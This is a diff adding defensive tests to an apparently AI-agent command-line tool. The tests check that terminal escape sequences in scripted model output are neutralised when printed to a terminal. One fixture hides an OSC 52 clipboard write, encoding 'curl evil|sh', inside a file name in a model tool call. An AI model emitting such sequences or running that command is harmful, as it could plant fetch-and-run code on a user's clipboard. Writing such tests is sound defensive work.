@@ -32,3 +32,34 @@ def test_a_sessions_listing_and_transcript_print_no_control_character(
         assert not _CONTROLS.search(printed), printed
     exported = moot("sessions", "export", session_id, "--format", "json")
     assert "\\u001b]2;PWNED" in exported.stdout  # JSON keeps every character, escaped
+
+
+def test_a_headless_run_on_a_terminal_prints_no_sequence_of_the_model(tmp_path: Path) -> None:
+    import sys
+
+    import pexpect
+
+    from pty_moot import in_terminal, terminal_env
+
+    clipboard = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"  # OSC 52: "curl evil|sh" on the clipboard
+    write = {"name": "write", "arguments": {"path": f"a{clipboard}.txt", "content": "x"}}
+    turns = [{"tool_calls": [write]}, {"text": f"final {TITLE} answer"}]
+    script = tmp_path / "script.json"
+    script.write_text(json.dumps({"turns": turns}))
+    env = {**terminal_env(tmp_path), "MOOT_HOME": str(tmp_path / "home")}
+    child = in_terminal(
+        sys.executable, ["-m", "moot.cli", "-p", "go", "--model", f"scripted:{script}"],
+        tmp_path, env,
+    )  # fmt: skip
+    child.expect(pexpect.EOF)
+    printed = child.before
+    assert "final ]2;PWNED answer" in printed
+    assert "]52;c;Y3VybCBldmlsfHNo" in printed  # the refusal names the path, as text
+    assert "\x1b]" not in printed and "\x07" not in printed
+
+
+def test_a_headless_run_into_a_pipe_keeps_every_character(tmp_path: Path, moot: RunMoot) -> None:
+    script = tmp_path / "script.json"
+    script.write_text(json.dumps({"turns": [{"text": f"final {TITLE} answer"}]}))
+    done = moot("-p", "go", "--model", f"scripted:{script}")
+    assert done.stdout == f"final {TITLE} answer\n"
